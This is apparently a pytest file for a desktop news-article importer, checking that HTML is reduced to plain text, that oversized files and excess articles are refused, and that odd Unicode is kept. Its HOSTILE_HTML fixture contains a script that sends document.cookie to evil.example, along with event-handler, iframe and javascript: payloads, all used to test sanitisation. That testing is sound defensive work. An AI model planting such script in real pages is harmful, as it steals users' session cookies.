"""Hostile and odd files: refused with a sentence, or imported as inert plain text."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path

import pytest
from sqlalchemy import select

from db.errors import StoreError
from db.models import Article
from db.store import Store, open_store
from desktop.cli import run
from desktop.ingest.importer import import_paths

HOSTILE_HTML = """<html><head><title>Deal signed</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<meta property="article:published_time" content="2018-10-05"></head>
<body onload="alert(1)"><article><h1>India and Russia sign the S-400 deal</h1>
<p onclick="alert(2)">India and Russia signed the contract in New Delhi on Friday after talks
between the two leaders, officials said in a statement to reporters.</p>
<iframe src="https://evil.example/frame"></iframe><img src="https://evil.example/pixel.png">
<p>More at <a href="javascript:alert(3)">this link</a>, which should not survive as code.</p>
</article></body></html>"""


def test_scripts_frames_handlers_and_remote_images_leave_only_text(
    store: Store, tmp_path: Path
) -> None:
    path = tmp_path / "hostile.html"
    path.write_text(HOSTILE_HTML)
    assert not import_paths(store, [path]).failed
    with store.session() as session:
        text = session.scalars(select(Article.text)).one()
    assert "India and Russia signed the contract in New Delhi" in text
    for bad in (
        "<script",
        "fetch(",
        "onload",
        "onclick",
        "<iframe",
        "evil.example",
        "javascript:",
        "<img",
    ):
        assert bad not in text
    # The article view is a QPlainTextEdit: it shows text and never loads or runs anything.
    from PySide6.QtWidgets import QPlainTextEdit

    from desktop.ui.article_view import ArticleView

    assert issubclass(ArticleView, QPlainTextEdit)


def test_a_50_mb_file_is_refused_with_its_size(tmp_path: Path) -> None:
    big = tmp_path / "big.txt"
    with big.open("wb") as fh:
        fh.write(b"India and Russia. " * (50_000_000 // 18))
    err = io.StringIO()
    assert run(["--db", str(tmp_path / "t.db"), "import", str(big)], io.StringIO(), err) == 1
    assert (
        err.getvalue()
        == f"{big}: is 50 MB; Factdesk imports files up to 20 MB (split it into articles)\n"
    )


def test_odd_text_is_kept_exactly(store: Store, tmp_path: Path) -> None:
    odd = (
        "date 2018-01-02 \u05e9\u05dc\u05d5\u05dd\r\nmixed\rline\nends\t"
        + "\u202e rtl \U0001f600 e\u0301 "
        + "x" * 100_000
    )
    (tmp_path / "odd.txt").write_bytes(odd.encode("utf-8"))
    assert not import_paths(store, [tmp_path / "odd.txt"]).failed
    with store.session() as session:
        assert session.scalars(select(Article.text)).one() == odd[len("date 2018-01-02 ") :]


def test_articles_beyond_the_supported_count_are_refused_whole_batches_kept(
    db_path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from db import limits
    from desktop.tracking.desk import Desk
    from desktop.tracking.intake import PastedText

    monkeypatch.setattr(limits, "MAX_ARTICLES", 3)
    for i in range(3):
        (tmp_path / f"{i}.txt").write_text(f"date 2018-10-0{i + 1} T{i}\n\nText {i}.\n")
    out, err = io.StringIO(), io.StringIO()
    assert run(["--db", str(db_path), "import", str(tmp_path)], out, err) == 0
    (tmp_path / "more.txt").write_text("date 2018-10-09 More\n\nOne too many.\n")
    out, err = io.StringIO(), io.StringIO()
    assert run(["--db", str(db_path), "import", str(tmp_path / "more.txt")], out, err) == 2
    assert err.getvalue() == (
        "factdesk: This database holds 3 articles and Factdesk supports up to 3 in one "
        "database, so the new ones were not added. Start another database with --db.\n"
    )
    store = open_store(db_path)
    try:
        with pytest.raises(StoreError, match="holds 3 articles"):
            Desk(store, "tester").add_text_article(
                PastedText("Pasted text.", "Pasted", date(2020, 1, 1))
            )
        with store.session() as session:
            assert len(list(session.scalars(select(Article)))) == 3
    finally:
        store.close()
